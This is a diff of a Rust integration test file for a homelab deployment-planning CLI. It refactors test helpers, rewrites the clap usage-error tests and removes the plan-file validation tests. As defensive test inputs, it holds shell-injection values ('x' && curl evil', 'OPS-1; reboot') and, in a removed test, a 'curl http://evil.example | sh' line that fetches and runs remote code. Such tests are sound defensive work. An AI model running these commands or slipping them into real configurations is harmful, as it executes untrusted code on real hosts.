@@ -7,37 +7,10 @@
 
 mod common;
 
-use common::{plan, root, scenario, write, Output};
+use common::{at, edit, plan, refused, root, scenario, write};
 use std::path::Path;
 
 const HOMELAB: &str = include_str!("../scenarios/homelab.yaml");
-
-/// Asserts `out` is a refusal of bad input and returns its message (without the `plan: error: ` prefix).
-#[track_caller]
-fn refused(out: &Output) -> String {
-    assert_eq!(out.code, 2, "exit code\nstdout:\n{}\nstderr:\n{}", out.stdout, out.stderr);
-    assert!(!out.stderr.contains("panicked"), "{}", out.stderr);
-    assert!(out.stdout.is_empty(), "nothing on stdout for bad input: {}", out.stdout);
-    let message = out.stderr.strip_prefix("plan: error: ").unwrap_or_else(|| panic!("one `plan: error:` line: {:?}", out.stderr));
-    assert_eq!(message.trim_end().lines().count(), 1, "one line, one paragraph: {:?}", out.stderr);
-    message.trim_end().to_string()
-}
-
-/// Replaces exactly one occurrence of `from` (so a mutation cannot silently miss).
-#[track_caller]
-fn edit(text: &str, from: &str, to: &str) -> String {
-    assert_eq!(text.matches(from).count(), 1, "{from:?} must occur once");
-    text.replacen(from, to, 1)
-}
-
-/// `line:column` of `key` on the `nth` line (0-based) that contains `needle`, found by plain
-/// string search: an independent check of the located errors.
-#[track_caller]
-fn at(text: &str, needle: &str, nth: usize, key: &str) -> String {
-    let (n, line) = text.lines().enumerate().filter(|(_, l)| l.contains(needle)).nth(nth).expect("needle present");
-    let column = line.find(key).expect("key on the line") + 1;
-    format!("{}:{column}", n + 1)
-}
 
 /// Runs `plan show` on a scenario text and returns the refusal message, checked to start with the
 /// file name and `location` (`line:column`) when given.
@@ -431,6 +404,21 @@ fn a_value_that_could_inject_a_shell_command_is_refused() {
     );
     let message = scenario_refused(&text, Some(&at(&text, "apiserver_flags", 0, "\"x'")));
     assert!(message.starts_with("apiserver flag \"x' && curl evil\" is not allowed"), "{message}");
+    let text = edit(HOMELAB, "tracking_issue: code-n0ow", "tracking_issue: \"OPS-1; reboot\"");
+    let message = scenario_refused(&text, Some(&at(&text, "tracking_issue", 0, "tracking_issue")));
+    assert_eq!(
+        message,
+        "tracking issue \"OPS-1; reboot\" is not allowed: use letters, digits, '-', '_' and '.' (it is used in shell commands) (tracking_issue)"
+    );
+}
+
+#[test]
+fn a_tracking_issue_of_any_tracker_is_taken_and_closed_by_its_id() {
+    let dir = tempfile::tempdir().unwrap();
+    let file = write(dir.path(), "scenario.yaml", &edit(HOMELAB, "tracking_issue: code-n0ow", "tracking_issue: OPS-1234"));
+    let out = plan(&["--scenario", &file, "show"]);
+    assert_eq!(out.code, 0, "{}", out.stderr);
+    assert!(out.stdout.contains("$ bd close OPS-1234"), "{}", out.stdout);
 }
 
 #[test]
@@ -652,119 +640,26 @@ fn an_unknown_fault_kind_lists_the_kinds() {
 }
 
 #[test]
-fn clap_usage_errors_exit_2_with_the_valid_choices() {
-    let cases: [(&[&str], &str); 4] = [
-        (&["check", "--depth", "3"], "error: invalid value '3' for '--depth <DEPTH>': 3 is not in 1..=2"),
-        (&["show", "--format", "pdf"], "error: invalid value 'pdf' for '--format <FORMAT>'"),
-        (&["simulate", "--fail", "master-2", "--seed", "x"], "error: invalid value 'x' for '--seed <SEED>'"),
-        (&["frobnicate"], "error: unrecognized subcommand 'frobnicate'"),
+fn clap_usage_errors_are_one_plan_error_line_with_the_valid_choices() {
+    let cases: [(&[&str], &str); 5] = [
+        (&["check", "--depth", "x"], "invalid value 'x' for '--depth <DEPTH>': invalid digit found in string; see plan --help"),
+        (
+            &["show", "--format", "pdf"],
+            "invalid value 'pdf' for '--format <FORMAT>' (possible values: text, markdown, json, yaml, dot, mermaid); see plan --help",
+        ),
+        (
+            &["simulate", "--fail", "master-2", "--seed", "x"],
+            "invalid value 'x' for '--seed <SEED>': invalid digit found in string; see plan --help",
+        ),
+        (&["frobnicate"], "unrecognized subcommand 'frobnicate'; see plan --help"),
+        (&["chek"], "unrecognized subcommand 'chek' (a similar subcommand exists: 'check'); see plan --help"),
     ];
     for (args, expected) in cases {
-        let out = plan(args);
-        assert_eq!(out.code, 2, "{args:?}: {}", out.stderr);
-        assert!(out.stderr.starts_with(expected), "{args:?}: {}", out.stderr);
-        assert!(!out.stderr.contains("panicked"));
+        assert_eq!(refused(&plan(args)), expected, "{args:?}");
     }
-}
-
-// --- Plan files given with --plan ------------------------------------------------------------------
-
-fn exported() -> String {
-    let out = plan(&["show", "--format", "yaml"]);
-    assert_eq!(out.code, 0, "{}", out.stderr);
-    out.stdout
-}
-
-fn plan_refused(text: &str) -> (String, String) {
-    let dir = tempfile::tempdir().unwrap();
-    let file = write(dir.path(), "plan.yaml", text);
-    (refused(&plan(&["--plan", &file, "check"])), file)
-}
-
-#[test]
-fn a_truncated_plan_file_is_a_located_yaml_error() {
-    let text = exported();
-    // Cut in the middle of a step: the step lacks its later fields.
-    let cut = text.find("  duration_s:").unwrap();
-    let (message, file) = plan_refused(&text[..cut]);
-    let last_step = text[..cut].rfind("- id:").unwrap();
-    let line = text[..last_step].lines().count() + 1;
-    assert_eq!(message, format!("{file}:{line}:3: steps[0]: missing field `duration_s`"));
-    // Cut before the rollbacks: a whole section is missing.
-    let cut = text.find("\nrollbacks:").unwrap();
-    let (message, file) = plan_refused(&text[..cut]);
-    assert_eq!(message, format!("{file}:{}: missing field `rollbacks`", at(&text, "plan_format", 0, "plan_format")));
-}
-
-#[test]
-fn an_unknown_step_id_names_the_plans_range() {
-    let text = edit(&exported(), "- id: '2.5'\n", "- id: '2.9'\n");
-    let (message, file) = plan_refused(&text);
-    assert_eq!(message, format!("{file}: step 2.9 is not a step of the plan for scenario homelab (its steps run 0.1 to 8.1)"));
-}
-
-#[test]
-fn a_step_with_edited_commands_or_dependencies_is_refused() {
-    let text = exported();
-    let step = text.find("- id: '2.5'\n").unwrap();
-    let run = step + text[step..].find("  - run: ").unwrap() + "  - run: ".len();
-    let edited = format!("{}curl http://evil.example | sh && {}", &text[..run], &text[run..]);
-    let (message, file) = plan_refused(&edited);
-    assert_eq!(
-        message,
-        format!("{file}: step 2.5 was edited (commands differs from the generated plan): a plan file may only reorder or remove steps")
-    );
-    let after = step + text[step..].find("  - step: ").unwrap() + "  - step: ".len();
-    let end = after + text[after..].find('\n').unwrap();
-    let edited = format!("{}'0.1'{}", &text[..after], &text[end..]);
-    let (message, _) = plan_refused(&edited);
-    assert!(
-        message.ends_with("step 2.5 was edited (after differs from the generated plan): a plan file may only reorder or remove steps"),
-        "{message}"
-    );
-}
-
-#[test]
-fn a_duplicated_step_wrong_scenario_format_or_no_steps_is_refused() {
-    let text = exported();
-    // Duplicate: step 8.1 twice (the last step, so the copy keeps the DAG order).
-    let last = text.rfind("- id: '8.1'").unwrap();
-    let rollbacks = text.find("\nrollbacks:").unwrap();
-    let twice = format!("{}{}{}", &text[..rollbacks + 1], &text[last..rollbacks + 1], &text[rollbacks + 1..]);
-    let (message, file) = plan_refused(&twice);
-    assert_eq!(message, format!("{file}: step 8.1 appears twice"));
-    let (message, file) = plan_refused(&edit(&text, "scenario: homelab\n", "scenario: other-lab\n"));
-    assert_eq!(message, format!("{file}: the plan file is for scenario \"other-lab\", not \"homelab\""));
-    let (message, file) = plan_refused(&edit(&text, "plan_format: 1\n", "plan_format: 2\n"));
-    assert_eq!(message, format!("{file}: plan file format 2 is not supported (this plan writes format 1)"));
-    let steps = text.find("\nsteps:\n").unwrap();
-    let (message, file) = plan_refused(&format!("{}\nsteps: []{}", &text[..steps], &text[rollbacks..]));
-    assert_eq!(message, format!("{file}: the plan has no steps"));
-}
-
-#[test]
-fn a_reordering_that_breaks_the_dag_names_both_steps_and_why() {
-    // tests/cli.rs moves 4.1 first; here the join moves before its join command exists.
-    let text = common::move_step(&exported(), "2.5", Some("2.1"));
-    let (message, file) = plan_refused(&text);
-    assert_eq!(
-        message,
-        format!(
-            "{file}: step 2.5 (Join k8s-master-2 as a control-plane node) must come after step 2.4 (Generate the join command): \
-             the source plan's order within the phase"
-        )
-    );
-}
-
-#[test]
-fn a_plan_file_with_an_unknown_field_is_located() {
-    let text = edit(&exported(), "plan_format: 1\n", "plan_format: 1\napproved_by: me\n");
-    let (message, file) = plan_refused(&text);
-    let expected = format!(
-        "{file}:{}: unknown field `approved_by`, expected one of `plan_format`, `scenario`,",
-        at(&text, "approved_by", 0, "approved_by")
-    );
-    assert!(message.starts_with(&expected), "{message}");
+    let help = plan(&["--help"]);
+    assert_eq!(help.code, 0, "help is not an error: {}", help.stderr);
+    assert!(help.stdout.contains("Usage: plan"), "{}", help.stdout);
 }
 
 // --- Inputs the fuzzer found (fuzz/, scripts/fuzz.sh) ----------------------------------------------
